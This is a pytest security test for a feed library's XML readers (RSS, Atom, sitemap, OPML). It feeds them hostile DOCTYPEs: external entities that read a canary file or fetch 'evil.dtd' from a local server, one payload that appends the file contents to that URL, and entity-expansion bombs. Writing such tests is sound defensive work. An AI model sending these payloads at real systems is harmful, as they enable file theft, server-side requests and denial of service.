"""Does any reader of XML read a file, ask a server or swell, because a document tells it to? Every door that takes XML is asked."""

from __future__ import annotations

import contextlib
import socket
import time
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest

from warraq.errors import Unreadable
from warraq.feeds import opml, past, reading

NOON = datetime(2026, 11, 23, 10, 0, tzinfo=UTC)
URL = "https://paper.example/x.xml"
ITEM = "<item><title>خبر &x;</title><link>https://paper.example/1</link></item>"
ENTRY = "<entry><title>خبر &x;</title><id>1</id><link href='https://paper.example/1'/></entry>"
DOCUMENTS = {
    "rss": f"<rss version='2.0'><channel><title>&x;</title>{ITEM}</channel></rss>",
    "atom": f"<feed xmlns='http://www.w3.org/2005/Atom'><title>&x;</title>{ENTRY}</feed>",
    "rdf": f"<rdf:RDF xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#' xmlns='http://purl.org/rss/1.0/'>{ITEM}</rdf:RDF>",
    "urlset": "<urlset><url><loc>https://paper.example/&x;</loc></url></urlset>",
    "sitemapindex": "<sitemapindex><sitemap><loc>https://paper.example/&x;</loc></sitemap></sitemapindex>",
    "no feed": "<r><title>&x;</title></r>",
    "broken": f"<rss version='2.0'><channel><title>&x;</title>{ITEM}<description><b></description></channel></rss>",
    "opml": "<opml><head><title>&x;</title></head><body><outline text='&x;' xmlUrl='https://paper.example/rss'/></body></opml>",
}
DOORS: dict[str, Callable[[bytes], object]] = {
    "feed": lambda data: reading.read(data, url=URL, content_type="text/xml", zone="UTC", now=NOON),
    "list of a past": lambda data: past.read(data, url=URL, content_type="text/xml", zone="UTC", now=NOON),
    "opml": opml.read,
}


@pytest.fixture
def listening() -> Iterator[socket.socket]:
    """A server that must hear nothing."""
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        sock.listen()
        sock.setblocking(False)
        yield sock


@pytest.mark.parametrize("door", DOORS)
@pytest.mark.parametrize("document", DOCUMENTS)
def test_no_reader_of_xml_opens_a_file_asks_a_server_or_swells(
    door: str, document: str, tmp_path: Path, listening: socket.socket
) -> None:
    canary = tmp_path / "canary.txt"
    canary.write_text("CANARY", encoding="utf-8")
    file, port = canary.as_uri(), listening.getsockname()[1]
    server = f"http://127.0.0.1:{port}/evil.dtd"
    lots = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    wide = f'<!ENTITY w "{"CANARY" * 20_000}">'
    for doctype in (
        f'<!DOCTYPE r [<!ENTITY x SYSTEM "{file}">]>',
        f'<!DOCTYPE r [<!ENTITY x SYSTEM "{server}">]>',
        f'<!DOCTYPE r SYSTEM "{server}">',
        f'<!DOCTYPE r PUBLIC "-//x" "{server}" [<!ENTITY x "CANARY">]>',
        f'<!DOCTYPE r [<!ENTITY % p SYSTEM "{server}"> %p;<!ENTITY x "CANARY">]>',
        f'<!DOCTYPE r [<!ENTITY % f SYSTEM "{file}"><!ENTITY % e "<!ENTITY x SYSTEM \'{server}?%f;\'>"> %e;]>',
        f'<!DOCTYPE r [<!ENTITY l0 "CANARY">{lots}<!ENTITY x "&l9;">]>',
        f'<!-- x --><?x y?>\n<!DOCTYPE r PUBLIC "{"x" * 3000}" "x" [<!ENTITY l0 "CANARY">{lots}<!ENTITY x "&l9;">]>',
        f'<!DOCTYPE r []><!DOCTYPE r [<!ENTITY l0 "CANARY">{lots}<!ENTITY x "&l9;">]>',
        f'<!DOCTYPE r [<!ENTITY y "]>"><!ENTITY l0 "CANARY">{lots}<!ENTITY x "&l9;">]>',
        f'<!DOCTYPE r [{wide}<!ENTITY x "{"&w;" * 200}">]>',
        "<!DOCTYPE r [" * 50_000,
        "<!DOCTYPE r>" * 50_000,
    ):
        data = f'<?xml version="1.0"?>{doctype}{DOCUMENTS[document]}'.encode()
        began = time.process_time()
        told = ""
        with contextlib.suppress(Unreadable):
            told = repr(DOORS[door](data))
        assert time.process_time() - began < 1, doctype[:80]
        assert "CANARY" not in told, doctype[:80]
        with pytest.raises(BlockingIOError):
            listening.accept()
